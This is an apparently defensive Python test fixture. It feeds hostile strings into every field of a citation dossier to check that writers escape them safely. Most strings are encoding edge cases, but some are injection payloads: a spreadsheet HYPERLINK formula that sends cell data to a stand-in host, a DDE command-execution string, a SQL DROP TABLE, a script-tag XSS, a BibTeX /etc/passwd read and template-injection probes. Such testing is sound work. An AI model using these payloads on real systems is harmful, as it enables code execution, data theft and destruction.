"""Texts that break careless writers, and a dossier that is full of one of them."""

from typing import Any

from cetingest.model import Dossier, Problem, ProblemCode, Suggestion, VerdictKind, WebPage
from tests.factories import (
    block,
    citation,
    citation_list,
    cited_url,
    document,
    dossier,
    fetch,
    finding_list,
    footnote,
    quote,
    ranking,
    recommendation,
    verdict,
)

HOSTILE = {
    "formula": '=HYPERLINK("http://a.test/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width": "＝1+1",
    "quotes": 'a "quoted" and \'single\' and "',
    "lines": "one\r\ntwo\nthree\rfour\u2028five\u2029six\x85seven",
    "separators": "a,b;c|d\te",
    "nul": "be\0fore",
    "control": "\x01\x0b\x0c\x1b[31mred\x7f",
    "surrogate": "half \ud83d of a pair",
    "emoji": "👩‍👩‍👧 \U0010ffff",
    "right to left": "\u202egnp.exe\u202c עברית",
    "combining": "e\u0301" * 50,
    "long": "x" * 120_000,
    "empty": "",
    "space": " ",
    "null word": "NULL",
    "sql": "'; DROP TABLE documents; --",
    "html": "<script>alert(1)</script>&amp;",
    "bibtex": "\\input{/etc/passwd} } @book{x, title={y} $x_1$ 50% #1 ~ ^ {",
    "ris": "A title\nER  - \n\nTY  - BOOK\nTI  - Injected",
    "sarif": "{0} {message} [click](https://a.test/) \\",
    "template": "{{ 7*7 }} ${7*7} %s %(x)s",
    "backslash": "C:\\new\\table\\",
}


def hostile_dossier(text: str, document_id: str = "doc") -> Dossier:
    """A dossier that has `text` wherever a document, a server or a rule could put it."""
    own: dict[str, Any] = {"document_id": document_id}
    item: Any = {
        "type": "report",
        "title": text,
        "author": ({"literal": text}, {"family": text, "given": text}),
        "container-title": text,
        "event-title": text,
        "publisher": text,
        "URL": text,
        "note": text,
    }
    answered = fetch(text, final_url=text, content_type=text, detail=text, page=WebPage(titles=(text,), site_name=text))
    judged = verdict(
        VerdictKind.DEAD, url=text, reason=text, fetch=answered, suggestion=Suggestion(url=text, why=text), **own
    )
    problem = Problem(code=ProblemCode.MALFORMED_URL, message=text, subject_id=f"{document_id}-fn1")
    said = quote(text, section_path=(text,), **own)
    return dossier(
        document_id,
        document=document(
            document_id,
            title=text,
            language=text,
            producer=text,
            source_filename=text,
            blocks=(block(text, section_path=(text, text), **own),),
            footnotes=(footnote("1", text=text, **own),),
        ),
        citations=citation_list(
            document_id,
            citations=(citation(item=item, printed=text, **own),),
            cited_urls=(cited_url(text, mended_by=text, **own),),
        ),
        findings=finding_list(
            document_id,
            family=text,
            rankings=(ranking(quote=said, subject=text, index=text, sector=text, rank_printed=text, **own),),
            recommendations=(recommendation(quote=said, level=text, heading=text, text=text, **own),),
        ),
        verdicts=(judged,),
        problems=(problem,),
    )
